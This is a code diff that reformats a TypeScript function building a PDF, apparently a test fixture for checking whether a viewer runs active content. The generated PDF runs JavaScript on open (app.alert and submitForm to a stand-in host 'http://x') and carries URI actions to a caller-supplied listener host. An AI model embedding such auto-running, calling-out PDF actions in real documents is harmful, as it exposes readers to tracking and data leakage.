@@ -5,16 +5,12 @@ export function paper(lines: readonly string[], listener: string): Buffer {
   const stream = (content: string): string =>
     `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
   const escaped = (text: string): string =>
-    [...text.replaceAll(/[\\()]/g, "\\$&")]
-      .map((own) => (own >= " " && own <= "~" ? own : "?"))
-      .join("");
+    [...text.replaceAll(/[\\()]/g, "\\$&")].map((own) => (own >= " " && own <= "~" ? own : "?")).join("");
   const catalog = add("");
   const tree = add("");
   const font = add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
   const go = (action: string): string => `<< /Type /Action ${action} >>`;
-  const script = go(
-    "/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://x'\\);)",
-  );
+  const script = go("/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://x'\\);)");
   const visit = go(`/S /URI /URI (http://${listener}/uri)`);
   const widget = "/Type /Annot /Rect [0 0 600 840] /F 4";
   const annotations = [
@@ -26,17 +22,10 @@ export function paper(lines: readonly string[], listener: string): Buffer {
   ].map((own) => `${add(own)} 0 R`);
   const pages: number[] = [];
   for (let from = 0; from < lines.length; from += 60) {
-    const shown = lines
-      .slice(from, from + 60)
-      .map((line) => `(${escaped(line).slice(0, 400)}) Tj T*`);
-    const content = add(
-      stream(`BT /F 7 Tf 12 TL 20 800 Td ${shown.join("\n")} ET`),
-    );
+    const shown = lines.slice(from, from + 60).map((line) => `(${escaped(line).slice(0, 400)}) Tj T*`);
+    const content = add(stream(`BT /F 7 Tf 12 TL 20 800 Td ${shown.join("\n")} ET`));
     const resources = `/Resources << /Font << /F ${font} 0 R >> >>`;
-    const annots =
-      from === 0
-        ? `/Annots [${annotations.join(" ")}] /AA << /O ${script} >>`
-        : "";
+    const annots = from === 0 ? `/Annots [${annotations.join(" ")}] /AA << /O ${script} >>` : "";
     pages.push(
       add(
         `<< /Type /Page /Parent ${tree} 0 R /MediaBox [0 0 600 840] /Contents ${content} 0 R ${resources} ${annots} >>`,
@@ -56,9 +45,7 @@ export function paper(lines: readonly string[], listener: string): Buffer {
   });
   const table = text.length;
   text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
-  text += starts
-    .map((at) => `${String(at).padStart(10, "0")} 00000 n \n`)
-    .join("");
+  text += starts.map((at) => `${String(at).padStart(10, "0")} 00000 n \n`).join("");
   text += `trailer << /Size ${objects.length + 1} /Root ${catalog} 0 R >>\nstartxref\n${table}\n%%EOF\n`;
   return Buffer.from(text, "latin1");
 }
